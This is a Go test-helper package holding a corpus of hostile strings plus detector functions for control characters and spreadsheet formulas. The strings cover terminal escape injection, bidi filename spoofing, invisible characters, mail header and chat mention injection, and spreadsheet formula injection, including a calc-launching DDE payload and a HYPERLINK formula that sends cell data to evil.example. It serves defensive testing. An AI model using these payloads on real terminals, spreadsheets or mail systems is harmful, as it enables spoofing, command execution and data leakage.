// Package hostiletest is for tests: what strangers write into names, notes and files to act on the terminal, the
// spreadsheet, the mail or the chat of whoever reads it; and a school in which every text is such a one.
package hostiletest

import (
	"strings"
	"unicode"
	"unicode/utf8"
)

// Mark stands in each of the texts, in letters that nothing takes out.
const Mark = "EVIL"

// Texts are the attacks, one of a kind each.
var Texts = []string{
	"\x1b[5;31m\x1b[2J\x1b[10;10H" + Mark + "\x1b[?1049l\x1bc",                                                     // colours, clears, moves, leaves, resets
	"\x1b]0;owned\x07\x1b]52;c;b3duZWQ=\x07\x1b]8;;http://evil.example\x1b\\" + Mark + "\x1b]8;;tel:110\x07\x1b\\", // the title, the clipboard, links
	"\x1bP1;1q~\x1b\\\x1b_Gf=100;AAAA\x1b\\\x1b^x\x1b\\\x1bXy\x1b\\" + Mark,                                        // pictures, privacy messages
	c1() + "\u009b5;31m" + Mark + "\u009c",                                                                         // every C1 control
	"\x80\x9b5m" + Mark + "\x9d0;owned\x9c",                                                                        // the same as bytes
	"\u202e" + Mark + "\u2066\u2067\u2068\u200f\u061c\u202agnp.exe",                                                // turns the writing round
	"\u200b\u200c" + Mark + "\u200d\u2060\ufeff\u00ad\ufe0f\u180e\U000e0041",                                       // nothing to be seen
	"\u0301\u0300\u20dd" + Mark + strings.Repeat("\u0336", 60),                                                     // marks alone, and heaps of them
	strings.Repeat("王"+Mark, 400),                                                                                  // long, and two cells wide
	strings.Repeat(Mark, 900),                                                                                      // one word without end
	`=HYPERLINK("http://evil.example?"&A1,"` + Mark + `")`,
	"+cmd|'/C calc'!A0 " + Mark,
	"@SUM(1+1)*cmd " + Mark,
	"-2+3+cmd|' /C calc'!A0 " + Mark,
	"\t=1+1 " + Mark,
	"\r=2+2 " + Mark,
	"\n=3+3\n\n\n" + Mark + "\n",
	"＝4+4 " + Mark,
	Mark + "\r\nBcc: all@evil.example\r\n\r\n<b>body</b>",
	"[CQ:at,qq=all]" + Mark + `<at user_id="all">x</at>`,
	"nul\x00" + Mark + "\x00\x07\x08\x7f",
	"broken\xff\xfe" + Mark + "\xc3(\xed\xa0\x80\xf5",
	"👨\u200d👩\u200d👧🏽" + Mark + "\U0001f1e8\U0001f1f3\uffff\ue000",
	"# " + Mark + "\n```\n\x1b[5;31mcode\n```\n| a | \x1b]0;owned\x07 |\n|---|---|\n[x](javascript:1) ![y](http://evil.example)\n> q\n1. \x1b[2J",
}

func c1() string {
	var b strings.Builder
	for r := rune(0x80); r <= 0x9f; r++ {
		b.WriteRune(r)
	}
	return b.String()
}

// Plain are those of the texts that every database stores and every argument of a command can be: valid UTF-8 without NUL.
func Plain() (list []string) {
	for _, s := range Texts {
		if utf8.ValidString(s) && !strings.Contains(s, "\x00") {
			list = append(list, s)
		}
	}
	return list
}

// Acts finds what would do something on a terminal: a control, a mark that turns the writing, a character that is not
// seen, a broken byte. Line breaks do not, nor does the tab of a table.
func Acts(text string) (found string, yes bool) {
	for i := 0; i < len(text); {
		r, n := utf8.DecodeRuneInString(text[i:])
		if r == utf8.RuneError && n == 1 || r != '\n' && r != '\t' && (unicode.IsControl(r) || unicode.In(r, unicode.Cf, unicode.Bidi_Control, unicode.Variation_Selector)) {
			return text[max(0, i-30):min(len(text), i+30)], true
		}
		i += n
	}
	return "", false
}

// Formula says whether a spreadsheet program runs a cell.
func Formula(cell string) bool {
	r, _ := utf8.DecodeRuneInString(cell)
	return cell != "" && strings.ContainsRune("=+-@\t\r\n＝＋－＠", r)
}
